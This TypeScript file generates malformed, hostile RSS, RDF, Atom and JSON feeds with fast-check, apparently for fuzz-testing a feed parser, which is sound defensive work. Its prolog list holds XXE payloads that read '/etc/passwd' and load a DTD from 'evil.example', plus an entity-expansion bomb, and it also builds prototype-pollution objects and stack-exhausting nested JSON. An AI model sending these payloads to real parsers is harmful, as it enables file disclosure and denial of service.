/**
 * RSS (0.9x, 2.0), RDF (RSS 1.0), Atom and JSON Feed documents, well-formed
 * enough for a feed parser to take them, with hostile values in every field
 * and the XML around them bent the way real feeds bend it (prologs, DTDs,
 * prefixes, xml:base, CDATA, HTML escaped once or twice).
 */
import fc from 'fast-check';
import { hostileFragment, xhtmlFragment } from './html-pages.ts';
import { dateText } from './dates-text.ts';
import { escapeMarkup, hostileMarkupText, hostileText, hostileUrl } from './hostile-text.ts';

type Text = fc.Arbitrary<string>;

/** CDATA cannot hold "]]>"; a feed splits it across two sections. */
export function cdata(text: string): string {
  return `<![CDATA[${text.replace(/]]>/g, ']]]]><![CDATA[>')}]]>`;
}

/** HTML as a feed carries it in an element: escaped once, in CDATA, or escaped twice by a confused generator. */
export const htmlInXml: Text = fc.oneof(
  hostileFragment.map(escapeMarkup),
  hostileFragment.map(cdata),
  hostileFragment.map((html) => escapeMarkup(escapeMarkup(html))),
  hostileMarkupText,
);

/** Text as a feed carries it in an element or attribute: escaped, with entity tricks. */
export const textInXml: Text = fc.oneof({ weight: 4, arbitrary: hostileMarkupText }, { weight: 1, arbitrary: hostileText.map(cdata) });

const urlInXml: Text = hostileUrl.map(escapeMarkup);

/** What may stand before the root element: declarations, comments, PIs, DTDs with or without entities. */
const BENIGN_PROLOG = [
  '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="ISO-8859-1"?>', '<?xml version="1.1"?>', '<?xml-stylesheet type="text/xsl" href="rss.xsl"?>',
  '<!-- generator: hostile -->', '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
  '\uFEFF', '   \n\t', '<!---->', '<?pi ?>',
];
const HOSTILE_PROLOG = [
  '<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>', '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
  '<!DOCTYPE x [<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]>', '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE x [<!ENTITY q "]>">]>',
];

export const prolog: Text = fc
  .array(fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...BENIGN_PROLOG) }, { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_PROLOG) }), { maxLength: 3 })
  .map((parts) => parts.join(''));

function element(name: string, value: Text, attrs: Text = fc.constant('')): fc.Arbitrary<string> {
  return fc.tuple(value, attrs).map(([text, attributes]) => `<${name}${attributes}>${text}</${name}>`);
}

/** Some of the elements, in any order, some repeated: feeds list fields twice and leave out required ones. */
function someOf(parts: fc.Arbitrary<string>[], maxLength = 12): Text {
  return fc.array(fc.oneof(...parts), { maxLength }).map((list) => list.join('\n'));
}

const xmlBase = fc.oneof(fc.constant(''), urlInXml.map((url) => ` xml:base="${url}"`));
const xmlLang = fc.constantFrom('', ' xml:lang="hi"', ' xml:lang="en-GB"', ' xml:lang=""', ' xml:lang="&#27;[31m"');

const rssItem: Text = fc
  .tuple(
    xmlBase,
    someOf([
      element('title', textInXml),
      element('link', urlInXml),
      element('guid', fc.oneof(textInXml, urlInXml), fc.constantFrom('', ' isPermaLink="false"', ' isPermaLink="true"')),
      element('description', htmlInXml),
      element('content:encoded', htmlInXml),
      element('pubDate', dateText),
      element('dc:date', dateText),
      element('dc:creator', textInXml),
      element('author', textInXml),
      element('category', textInXml),
      element('dc:language', fc.constantFrom('hi', 'en', '', 'x'.repeat(300))),
      urlInXml.map((url) => `<enclosure url="${url}" type="image/jpeg" length="-1"/>`),
      urlInXml.map((url) => `<media:content url="${url}" medium="image"><media:description>${'&lt;b&gt;x'}</media:description></media:content>`),
      fc.constantFrom('<georss:point>23.25 120.5</georss:point>', '<georss:point>999 -999</georss:point>', '<georss:point>NaN Infinity</georss:point>', '<geo:lat>1e308</geo:lat><geo:long>-0</geo:long>'),
      fc.constantFrom('<atom:updated>2026-11-29T10:30:00Z</atom:updated>', '<dcterms:modified>not a date</dcterms:modified>'),
    ]),
  )
  .map(([base, fields]) => `<item${base}>${fields}</item>`);

const RSS_NAMESPACES =
  ' xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"' +
  ' xmlns:georss="http://www.georss.org/georss" xmlns:geo="http://www.w3.org/2003/01/geo/wgs84_pos#" xmlns:atom="http://www.w3.org/2005/Atom"' +
  ' xmlns:dcterms="http://purl.org/dc/terms/" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"';

export const rssFeed: Text = fc
  .record({
    prolog,
    version: fc.constantFrom('2.0', '0.91', '0.92', '', 'banana'),
    namespaces: fc.constantFrom(RSS_NAMESPACES, ''),
    channel: someOf([
      element('title', textInXml),
      element('link', urlInXml),
      element('language', fc.constantFrom('hi', 'en-us', '', '&#27;')),
      element('ttl', fc.constantFrom('60', '-5', '1e9', 'NaN', '0', '99999999999999999999')),
      element('sy:updatePeriod', fc.constantFrom('hourly', 'daily', 'never', '')),
      element('sy:updateFrequency', fc.constantFrom('2', '0', '-1', 'x')),
      element('description', htmlInXml),
    ], 6),
    items: fc.array(rssItem, { maxLength: 8 }),
    rest: fc.constantFrom('', '<item><title>outside the channel</title></item>', '<channel><title>second channel</title></channel>'),
  })
  .map((f) => `${f.prolog}<rss version="${f.version}"${f.namespaces}><channel>${f.channel}\n${f.items.join('\n')}</channel>${f.rest}</rss>`);

const rdfItem: Text = fc
  .tuple(urlInXml, someOf([element('title', textInXml), element('link', urlInXml), element('description', htmlInXml), element('dc:date', dateText), element('dc:creator', textInXml), element('content:encoded', htmlInXml)], 8))
  .map(([about, fields]) => `<item rdf:about="${about}">${fields}</item>`);

export const rdfFeed: Text = fc
  .record({
    prolog,
    channel: someOf([element('title', textInXml), element('link', urlInXml), element('description', textInXml)], 4),
    items: fc.array(rdfItem, { maxLength: 8 }),
    prefix: fc.constantFrom('rdf:RDF', 'RDF'),
  })
  .map(
    (f) =>
      `${f.prolog}<${f.prefix} xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"` +
      ` xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel rdf:about="https://x.example/">${f.channel}</channel>${f.items.join('\n')}</${f.prefix}>`,
  );

const atomTextConstruct = (name: string): Text =>
  fc.oneof(
    element(name, textInXml, fc.constantFrom('', ' type="text"')),
    element(name, htmlInXml, fc.constantFrom(' type="html"', ' type="HTML"')),
    fc.oneof(xhtmlFragment, hostileFragment).map((html) => `<${name} type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${html}</div></${name}>`),
  );

const atomLink: Text = fc
  .tuple(urlInXml, fc.constantFrom('', ' rel="alternate"', ' rel="enclosure"', ' rel="self"', ' rel="related"', ' rel=""'), fc.constantFrom('', ' type="text/html"', ' type="image/png"', ' type="application/json"'))
  .map(([href, rel, type]) => `<link href="${href}"${rel}${type}/>`);

const atomEntry: Text = fc
  .tuple(
    xmlBase,
    xmlLang,
    someOf([
      atomTextConstruct('title'),
      element('id', fc.oneof(textInXml, urlInXml)),
      atomLink,
      element('published', dateText),
      element('updated', dateText),
      element('author', someOf([element('name', textInXml), element('email', textInXml), element('uri', urlInXml)], 3)),
      atomTextConstruct('summary'),
      fc.oneof(
        atomTextConstruct('content'),
        urlInXml.map((src) => `<content src="${src}" type="text/html"/>`),
        fc.constantFrom('<content type="image/png">iVBORw0KGgo=</content>', '<content type="application/octet-stream">AAAA</content>'),
      ),
      textInXml.map((term) => `<category term="${term.replace(/"/g, '&quot;')}"/>`),
    ]),
  )
  .map(([base, lang, fields]) => `<entry${base}${lang}>${fields}</entry>`);

export const atomFeed: Text = fc
  .record({
    prolog,
    base: xmlBase,
    lang: xmlLang,
    head: someOf([atomTextConstruct('title'), element('id', urlInXml), atomLink, element('updated', dateText), element('author', element('name', textInXml))], 6),
    entries: fc.array(atomEntry, { maxLength: 8 }),
    prefix: fc.constantFrom('', 'atom:'),
  })
  .map((f) => {
    const ns = f.prefix ? ' xmlns:atom="http://www.w3.org/2005/Atom"' : ' xmlns="http://www.w3.org/2005/Atom"';
    const body = f.prefix ? `${f.head}${f.entries.join('')}`.replace(/<(\/?)(?=[a-z])/g, `<$1${f.prefix}`) : `${f.head}\n${f.entries.join('\n')}`;
    return `${f.prolog}<${f.prefix}feed${ns}${f.base}${f.lang}>${body}</${f.prefix}feed>`;
  });

/** Any JSON value in place of a field: feeds send numbers for ids, objects for strings, nulls everywhere. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null), fc.integer(), fc.double(), fc.boolean(), fc.constant([]), fc.constant({}), fc.array(fc.string(), { maxLength: 2 }),
  fc.constant({ toString: 'x', __proto__: { polluted: true } }), fc.constant('1e999'),
);

export function field<T>(value: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 6, arbitrary: value }, { weight: 1, arbitrary: wrongType });
}

const jsonItem = fc.record(
  {
    id: field(fc.oneof(hostileText, hostileUrl)),
    url: field(hostileUrl),
    external_url: field(hostileUrl),
    title: field(hostileText),
    content_html: field(hostileFragment),
    content_text: field(hostileText),
    summary: field(fc.oneof(hostileText, hostileFragment)),
    image: field(hostileUrl),
    date_published: field(dateText),
    date_modified: field(dateText),
    authors: field(fc.array(fc.record({ name: field(hostileText), url: field(hostileUrl) }, { requiredKeys: [] }), { maxLength: 3 })),
    author: field(fc.record({ name: field(hostileText) })),
    tags: field(fc.array(field(hostileText), { maxLength: 4 })),
    language: field(fc.constantFrom('hi', 'en', '')),
  },
  { requiredKeys: [] },
);

/**
 * A JSON document with one more member nested hundreds or thousands deep,
 * written as text: building the value and stringifying it would overflow the
 * stack of the generator itself.
 */
export function deeplyNested(json: Text): Text {
  return fc
    .tuple(json, fc.oneof({ weight: 6, arbitrary: fc.constant(0) }, { weight: 1, arbitrary: fc.integer({ min: 100, max: 20_000 }) }), fc.constantFrom('[]', '{"a":}'))
    .map(([text, depth, pair]) => {
      if (depth === 0 || !text.endsWith('}')) return text;
      const [open, close] = pair === '[]' ? ['[', ']'] : ['{"a":', '}'];
      const nested = pair === '[]' ? `${open.repeat(depth)}${close.repeat(depth)}` : `${open.repeat(depth)}1${close.repeat(depth)}`;
      return `${text.slice(0, -1)}${text.length > 2 ? ',' : ''}"nested":${nested}}`;
    });
}

export const jsonFeed: Text = deeplyNested(
  fc.record(
    {
      version: fc.constantFrom('https://jsonfeed.org/version/1.1', 'https://jsonfeed.org/version/1', 'http://jsonfeed.org/version/1.1?x', 2),
      title: field(hostileText),
      home_page_url: field(hostileUrl),
      feed_url: field(hostileUrl),
      language: field(fc.constantFrom('hi', 'en')),
      authors: field(fc.array(fc.record({ name: field(hostileText) }), { maxLength: 2 })),
      items: field(fc.array(field(jsonItem), { maxLength: 8 })),
    },
    { requiredKeys: ['items'] },
  ).map((feed) => JSON.stringify(feed)),
);
